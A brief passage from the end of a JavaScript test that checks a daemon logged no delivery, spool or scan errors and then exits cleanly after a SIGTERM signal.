    assert.deepEqual(daemon.logs.filter((line) => ['corrupt', 'delivery-error', 'scan-failed', 'spool-error'].includes(String(line.event))), []);
    daemon.signal('SIGTERM');
    assert.equal((await daemon.exit()).code, 0);
  });
});
